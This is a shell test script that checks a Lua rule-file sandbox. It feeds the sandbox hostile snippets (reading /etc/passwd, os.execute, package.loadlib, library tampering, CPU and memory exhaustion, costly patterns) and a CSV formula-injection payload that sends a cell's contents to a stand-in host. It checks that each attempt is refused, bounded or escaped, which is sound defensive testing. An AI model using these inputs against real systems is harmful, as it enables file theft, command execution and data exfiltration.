# Hostile rule files through the real binary. Each snippet of the Lua
# embedding reference (lua-embedding.md, section 5) runs in the `when` of a
# rule, for one intake only (kestrel-dental): that intake must be rejected
# with the exact kind and reason, in bounded time, while the other intakes
# give exactly the rows they give without the hostile rule (so nothing of a
# failed or killed evaluation lingers). The same snippets at the top level
# of a rule file stop the load (exit 2) and leave the reports alone. Then:
# bytecode and non-regular rule files, rules that tamper with the standard
# libraries (another rule must not notice), rule text as report cells.
# Runs inside $WORK with relative paths, as config.sh does.
. "$(dirname "$0")/../lib.sh"

ln -s "$SRC/samples" "$WORK/samples"
ln -s "$SRC/policies" "$WORK/policies"
cd "$WORK"
n=$(ls samples/*.yaml | wc -l)
victim=kestrel-dental

now_ms() {
    t=$(date +%s%N)
    case $t in
    *N) echo $(($(date +%s) * 1000)) ;;
    *) echo $((t / 1000000)) ;;
    esac
}

mkrules() {
    rm -rf rules
    cp -r "$SRC/rules" rules
}

# Every limit is per intake: 2 s wall clock at most, and the run around it
# is fast; 3x that leaves room for a sanitizer build on a busy machine.
BOUND=6000

# the reports of the shipped pack, and the rows of every intake but the victim
mkrules
expect_exit 0 base.log "$PF" run --rules rules --out base samples/
for f in recommendations.csv needs.csv; do
    grep -v "^\"$victim\"," "base/$f" >"base.$f"
done
mkdir keep
cp base/* keep/

# reports_whole DIR EVALUATED REJECTED: strict CSV, counts that add up
reports_whole() {
    for f in "$1"/*.csv; do
        "$CSVCHECK" valid "$f" || fail "${f##*/} in $1 is not strict CSV"
    done
    grep -qx "  files: $n" "$1/manifest.yaml" && grep -qx "  evaluated: $2" "$1/manifest.yaml" &&
        grep -qx "  rejected: $3" "$1/manifest.yaml" ||
        { cat "$1/manifest.yaml" >&2; fail "$1: expected $n files = $2 evaluated + $3 rejected"; }
}

# when_case NAME KIND TEXT < SNIPPET: the snippet runs in a rule's `when`
# for the victim only; the victim is rejected with KIND and TEXT (exit 5),
# within BOUND ms; every other intake gives exactly its baseline rows.
when_case() {
    mkrules
    {
        printf 'rule { id = "t.hostile", stage = "needs", because = "hostile test",\n'
        printf '  when = function(intake, ctx)\n    if intake.id == "%s" then\n' "$victim"
        cat
        printf '\n    end\n    return false\n  end,\n  need = { plan = 1 } }\n'
    } >rules/99-hostile.lua
    t0=$(now_ms)
    expect_exit 5 "$1.log" timeout 60 "$PF" run --rules rules --out "$1" samples/
    ms=$(($(now_ms) - t0))
    [ "$ms" -le "$BOUND" ] || fail "$1 took $ms ms (bound $BOUND ms)"
    row="\"samples/$victim.yaml\",\"\",\"\",\"\",\"$2\",\"rule t.hostile (rules/99-hostile.lua:1) failed: "
    grep -F -- "$row" "$1/rejects.csv" | grep -qF -- "$3" || {
        cat "$1/rejects.csv" >&2
        fail "$1: expected $2 with '$3'"
    }
    reports_whole "$1" $((n - 1)) 1
    for f in recommendations.csv needs.csv; do
        cmp -s "base.$f" "$1/$f" || {
            diff "base.$f" "$1/$f" | head -5 >&2
            fail "$1: the other intakes' $f rows differ from the run without the hostile rule"
        }
    done
    ok "$1: $2 ($3) in $ms ms; the other $((n - 1)) intakes give their usual rows"
}

# load_case NAME TEXT < SNIPPET: the snippet at the top level of a rule
# file stops the load: exit 2 with TEXT, within BOUND ms, reports untouched.
load_case() {
    mkrules
    cat >rules/99-hostile.lua
    t0=$(now_ms)
    expect_exit 2 "$1.log" timeout 60 "$PF" run --rules rules --out base samples/
    ms=$(($(now_ms) - t0))
    [ "$ms" -le "$BOUND" ] || fail "$1 took $ms ms (bound $BOUND ms)"
    contains "$1.log" "$2"
    # one problem, said once, of the file (not "for one intake")
    contains "$1.log" "has 1 problem (listed above)"
    if grep -q "for one intake" "$1.log"; then cat "$1.log" >&2; fail "$1: a load's limit spoken of as an intake's"; fi
    for f in keep/*; do
        cmp -s "$f" "base/${f##*/}" || fail "$1: a failed load changed ${f##*/}"
    done
    ok "$1: the load stops with exit 2 ($2) in $ms ms; the reports are untouched"
}

# ---- section 5, in a rule's `when` -------------------------------------------

when_case dump rule.error "attempt to call a nil value (field 'dump')" <<'LUA'
      load(string.dump(function() end))
LUA
when_case require rule.error "attempt to call a nil value (global 'require')" <<'LUA'
      require("os")
LUA
when_case io rule.error "attempt to index a nil value (global 'io')" <<'LUA'
      io.open("/etc/passwd")
LUA
when_case package rule.error "attempt to index a nil value (global 'package')" <<'LUA'
      package.loadlib("liblua5.4.so.0", "luaopen_io")
LUA
when_case os rule.error "attempt to index a nil value (global 'os')" <<'LUA'
      os.execute("id")
LUA
when_case collectgarbage rule.error "attempt to call a nil value (global 'collectgarbage')" <<'LUA'
      collectgarbage("stop")
LUA
when_case lower-nil rule.error "this table is read-only (tried to set field 'lower')" <<'LUA'
      string.lower = nil
LUA
when_case getmetatable rule.error "attempt to call a nil value (global 'getmetatable')" <<'LUA'
      getmetatable("").__index.upper = nil
LUA
when_case setmetatable-G rule.error "attempt to call a nil value (global 'setmetatable')" <<'LUA'
      setmetatable(_G, {})
LUA
when_case rep-1e9 rule.error "string.rep would build 1000000000 bytes; the limit is 4194304" <<'LUA'
      local s = string.rep("x", 1e9)
LUA
when_case table-1e8 rule.limit "went over the memory limit of 64 MiB" <<'LUA'
      local t = {} for i = 1, 1e8 do t[i] = i end
LUA
when_case recursion rule.limit "went over the memory limit of 64 MiB" <<'LUA'
      local function f() return 1 + f() end f()
LUA
when_case error-rep rule.error "string.rep would build 50000000 bytes; the limit is 4194304" <<'LUA'
      error(string.rep("x", 5e7))
LUA
when_case while-true rule.limit "went over the limit of 20000000 Lua instructions for one intake" <<'LUA'
      while true do end
LUA
when_case pcall-loop rule.limit "went over the limit of 20000000 Lua instructions for one intake" <<'LUA'
      while true do pcall(function() while true do end end) end
LUA
# recursing through pcall spends its time in C: the deadline or the budget
when_case pcall-recursion rule.limit "went over the " <<'LUA'
      local g; g = function() return pcall(g) end while true do g() end
LUA
when_case xpcall rule.error "attempt to call a nil value (global 'xpcall')" <<'LUA'
      xpcall(function() error"x" end, function() while true do end end)
LUA
when_case gc-finaliser rule.error "attempt to call a nil value (global 'setmetatable')" <<'LUA'
      setmetatable({}, {__gc = function() while true do end end}); collectgarbage()
LUA
when_case coroutine rule.error "attempt to index a nil value (global 'coroutine')" <<'LUA'
      coroutine.wrap(function() while true do end end)()
LUA
when_case rep-empty rule.error "string.rep would build 0 bytes; the limit is 4194304" <<'LUA'
      string.rep("", 1e15)
LUA
when_case rep-empty-method rule.error "string.rep would build 0 bytes; the limit is 4194304" <<'LUA'
      local s = (""):rep(1e15)
LUA
when_case table-move rule.error "table.move over more than 1000000 elements is not allowed" <<'LUA'
      table.move({}, 1, 1e12, 1, {})
LUA
when_case pattern rule.error "pattern with 30 quantifier(s) is too costly on a text of 30 bytes" <<'LUA'
      local _ = ("a"):rep(30):find(("a-"):rep(30) .. "b")
LUA
when_case gmatch rule.error "is too costly on a text of 1000000 bytes" <<'LUA'
      for _ in ("a"):rep(1e6):gmatch("a*") do end
LUA
when_case rep-16m rule.error "string.rep would build 16000000 bytes; the limit is 4194304" <<'LUA'
      for i = 1, 1e7 do local s = string.rep("x", 16e6) end
LUA
when_case rep-4m-loop rule.limit "went over the " <<'LUA'
      for i = 1, 1e7 do local s = string.rep("x", 4e6) end
LUA
when_case tostring-loop rule.error "attempt to call a nil value (global 'setmetatable')" <<'LUA'
      error(setmetatable({}, {__tostring = function() while true do end end}))
LUA
when_case error-nil rule.error "(error object is a nil value)" <<'LUA'
      error(nil)
LUA
when_case error-table rule.error "(error object is a table value)" <<'LUA'
      error({})
LUA
when_case error-view rule.error "(error object is a table value)" <<'LUA'
      error(intake)
LUA
when_case unpack rule.error "table.unpack over more than 1000000 elements is not allowed" <<'LUA'
      local t = { table.unpack({}, 1, 1e8) }
LUA
when_case rule-at-runtime rule.error "it cannot be called while intakes are evaluated" <<'LUA'
      rule { id = "t.injected", stage = "fit", because = "injected", score = { csp = 1000 } }
LUA
when_case intake-write rule.error "this table is read-only (tried to set field 'id')" <<'LUA'
      local _, view = pairs(intake)
      view.id = "someone-else"
LUA
# a 16 MB error message: cut to a short reason
when_case huge-message rule.error "rules/99-hostile.lua:4: xxxxxxxx" <<'LUA'
      local s = ("x"):rep(4e6) s = s .. s .. s .. s error(s)
LUA
reason=$("$CSVCHECK" cell huge-message/rejects.csv 1 reason)
[ ${#reason} -le 2048 ] || fail "a 16 MB error message gave a reason of ${#reason} bytes"
ok "huge-message: the reason is cut to ${#reason} bytes"

# an error message that is no text (invalid UTF-8, an ESC sequence, a NUL):
# shown escaped, whole, and rejects.csv stays UTF-8 text
when_case error-bytes rule.error 'bad\xFF\xFE byte \x1B[31m red\x00 after NUL' <<'LUA'
      error("bad\255\254 byte \27[31m red\0 after NUL\nnext line")
LUA
# escaped once: no backslash escaped again, the line kept
if grep -qF 'x5C' error-bytes/rejects.csv; then fail "error-bytes: the message was escaped twice"; fi
contains error-bytes/rejects.csv "after NUL
next line"
if LC_ALL=C grep -q "$(printf '[\001-\010\016-\037\177-\377]')" error-bytes/rejects.csv; then
    fail "error-bytes: rejects.csv holds a control byte or a byte of no text"
fi
iconv -f UTF-8 -t UTF-8 error-bytes/rejects.csv >/dev/null || fail "error-bytes: rejects.csv is not UTF-8"
ok "error-bytes: a rule's error message of no text is escaped in rejects.csv, past its NUL"

# a cycle returned from `when` is just a true value: the rule fires
mkrules
cat >rules/99-hostile.lua <<LUA
rule { id = "t.cycle", stage = "needs", because = "a cyclic table is true",
  when = function(intake) if intake.id == "$victim" then local t = {} t[1] = t return t end end,
  need = { plan = 1 } }
LUA
expect_exit 0 cycle.log timeout 60 "$PF" run --rules rules --out cycle samples/
reports_whole cycle "$n" 0
grep -q "^\"$victim\",.*t.cycle +1: a cyclic table is true" cycle/needs.csv ||
    fail "the rule returning a cyclic table did not fire"
ok "cycle: a cyclic table returned from when counts as true; nothing walks it"

# ---- section 5, at the top level of a rule file (load time) ---------------------

load_case load-while-true "went over the limit of 20000000 Lua instructions" <<'LUA'
while true do end
LUA
load_case load-pcall-loop "went over the limit of 20000000 Lua instructions" <<'LUA'
while true do pcall(function() while true do end end) end
LUA
load_case load-memory "went over the memory limit of 64 MiB" <<'LUA'
local t = {} for i = 1, 1e8 do t[i] = i end
LUA
load_case load-pattern "rules/99-hostile.lua:1: pattern with 30 quantifier(s) is too costly" <<'LUA'
local _ = ("a"):rep(30):find(("a-"):rep(30) .. "b")
LUA
load_case load-dump "rules/99-hostile.lua:1: attempt to call a nil value (field 'dump')" <<'LUA'
load(string.dump(function() end))
LUA
load_case load-lib-write "rules/99-hostile.lua:1: this table is read-only (tried to set field 'lower')" <<'LUA'
string.lower = nil
LUA
# a limit hit while a rule file loads names the file (as syntax and run-time
# errors do), so an analyst knows which of the files loops
for c in load-while-true load-pcall-loop load-memory; do
    contains "$c.log" "rules/99-hostile.lua: the file's top-level code went over"
    ok "$c: the message names the rule file"
done

# ---- rule files that are not text --------------------------------------------------

mkrules
printf '\033LuaT\000\031\223\r\n\032\n\004\010\010x\126\000\000\000\000\000\000' >rules/99-bytecode.lua
expect_exit 2 bytecode.log timeout 60 "$PF" run --rules rules --out base samples/
contains bytecode.log "rules/99-bytecode.lua: attempt to load a binary chunk (mode is 't')"
ok "bytecode: a rule file starting with ESC Lua is refused (exit 2)"
mkrules
ln -s /dev/zero rules/99-zero.lua
expect_exit 2 zero.log timeout 20 "$PF" run --rules rules --out base samples/
contains zero.log "rules/99-zero.lua: not a regular file"
mkrules
mkfifo rules/99-fifo.lua
expect_exit 2 fifo.log timeout 20 "$PF" run --rules rules --out base samples/
contains fifo.log "rules/99-fifo.lua: not a regular file"
mkrules
{ printf -- '-- '; head -c 1100000 /dev/zero | tr '\0' x; printf '\n'; } >rules/99-big.lua
expect_exit 2 big.log timeout 20 "$PF" run --rules rules --out base samples/
contains big.log "rules/99-big.lua: the file is 1100004 bytes; the limit is 1048576"
ok "a rule file that is /dev/zero, a FIFO or over 1 MiB is refused without a hang (exit 2)"
for f in keep/*; do
    cmp -s "$f" "base/${f##*/}" || fail "a refused rule pack changed ${f##*/}"
done
ok "the refused rule packs left the reports untouched"

# ---- a rule tampering with the libraries cannot affect another rule -------------

mkrules
cat >rules/98-tamper.lua <<'LUA'
local function tamper()
  local tries = {
    function() string.lower = nil end,
    function() string.upper = function() return "pwned" end end,
    function() table.concat = nil end,
    function() math.floor = function() return 42 end end,
    function() utf8.char = nil end,
    function() getmetatable("").__index.upper = nil end,
    function() rawset(string, "lower", nil) end,
    function() local _, s = pairs(string) s.rep = nil end,
    function() local _, v = next(string) v.x = 1 end,
    function() for k in pairs(table) do table[k] = nil end end,
    function() _ENV.string = { lower = function() return "pwned" end } end,
    function() sorted_keys = nil end,
    function() areas[1] = "nowhere" end,
    function() options[1].id = "nowhere" end,
    function() policy.shortlist.size = 99 end,
    function() ("").upper = nil end,
  }
  local refused = 0
  for _, f in ipairs(tries) do
    if not pcall(f) then refused = refused + 1 end
  end
  return refused == #tries
end
local at_load = tamper()
rule { id = "t.tamper", stage = "needs", because = "every tampering attempt was refused",
  when = function() return tamper() and at_load end, need = { strategy = 1 } }
LUA
cat >rules/99-check.lua <<'LUA'
rule { id = "t.libs-intact", stage = "needs", because = "the libraries are intact",
  when = function()
    return string.lower("AbC") == "abc" and ("abc"):upper() == "ABC"
      and table.concat({ "a", "b" }, ",") == "a,b" and math.floor(2.5) == 2
      and utf8.char(72) == "H" and string.rep("ab", 2) == "abab"
      and type(sorted_keys) == "function" and areas[1] ~= "nowhere"
      and options[1].id ~= "nowhere" and policy.shortlist.size ~= 99
  end,
  need = { plan = 1 } }
LUA
expect_exit 0 tamper.log timeout 60 "$PF" run --jobs 1 --rules rules --out tamper samples/
reports_whole tamper "$n" 0
[ "$(grep -c 't.tamper +1: every tampering attempt was refused' tamper/needs.csv)" = "$n" ] ||
    fail "some tampering attempt was not refused"
[ "$(grep -c 't.libs-intact +1: the libraries are intact' tamper/needs.csv)" = "$n" ] ||
    fail "a later rule saw the libraries changed"
ok "tamper: all 16 attempts refused at load and on every intake; a later rule sees intact libraries"
expect_exit 0 tamper2.log timeout 60 "$PF" run --jobs 2 --rules rules --out tamper2 samples/
for f in recommendations.csv needs.csv rejects.csv; do
    cmp -s "tamper/$f" "tamper2/$f" || fail "$f differs between --jobs 1 and --jobs 2"
done
ok "tamper: --jobs 1 and --jobs 2 give byte-identical reports"

# ---- no state from one intake to the next, through closures made at load ---------
# (config.sh covers a file-level counter and table; these hide the state one
# level down: in a closure's own upvalue, and in a closure kept in a table)

mkrules
cat >rules/99-closures.lua <<'LUA'
local function counter() local c = 0 return function() c = c + 1 return c end end
local direct = counter()
local held = { next = counter() }
rule { id = "t.closure", stage = "fit", because = "first call on this intake",
  when = function() return direct() == 1 end, score = { csp = 1 } }
rule { id = "t.held-closure", stage = "fit", because = "first call on this intake",
  when = function() return held.next() == 1 end, score = { csp = 1 } }
LUA
expect_exit 0 closures.log timeout 60 "$PF" run --jobs 1 --rules rules --out closures samples/
reports_whole closures "$n" 0
for id in t.closure t.held-closure; do
    [ "$(grep -c "$id +1: first call on this intake" closures/recommendations.csv)" = "$n" ] ||
        fail "$id did not start afresh on every intake"
done
expect_exit 0 closures2.log timeout 60 "$PF" run --jobs 2 --rules rules --out closures2 samples/
for f in recommendations.csv needs.csv; do
    cmp -s "closures/$f" "closures2/$f" || fail "$f differs between --jobs 1 and --jobs 2"
done
ok "closures made at load start afresh on every intake (same bytes with 1 or 2 jobs)"

# ---- rule text in report cells: formulas neutralised, overlong cells cut ----------

mkrules
cat >rules/99-cells.lua <<'LUA'
rule { id = "t.long-reason", stage = "fit", because = function() return ("=x"):rep(20000) end,
  score = { csp = 1 } }
rule { id = "t.formula-step", stage = "engage", options = "all", because = "formula step",
  step = '=HYPERLINK("http://x/?"&A1)' }
LUA
expect_exit 0 cells.log timeout 60 "$PF" run --rules rules --out cells samples/
reports_whole cells "$n" 0
r=1
while [ "$("$CSVCHECK" cell cells/recommendations.csv $r option_id)" != csp ]; do
    r=$((r + 1))
    [ $r -lt 100 ] || fail "no csp row in recommendations.csv"
done
why=$("$CSVCHECK" cell cells/recommendations.csv $r why)
len=$(printf '%s' "$why" | wc -m)
case $why in *"[...]") ;; *) fail "the 40 000-character reason was not cut with [...]" ;; esac
[ "$len" -le 32767 ] || fail "a why cell has $len characters, more than Excel's 32767"
ok "a 40 000-character reason is cut to $len characters ending in [...]"
expect_exit 0 cells-x.log timeout 60 "$PF" run --excel --rules rules --out cells-x samples/
if grep -qF ',"=HYPERLINK(' cells-x/recommendations.csv; then
    fail "--excel: a cell starts with =HYPERLINK("
fi
grep -qF "\"'=HYPERLINK(\"\"http://x/?\"\"&A1) [t.formula-step]\"" cells-x/recommendations.csv ||
    fail "--excel: a step text starting with = was not written as '=HYPERLINK(...)"
grep -qF "\"=HYPERLINK(\"\"http://x/?\"\"&A1) [t.formula-step]\"" cells/recommendations.csv ||
    fail "plain data: a step text starting with = was not kept as it is"
ok "a rule's step text starting with = is neutralised with --excel, kept as it is in plain data"
done_testing
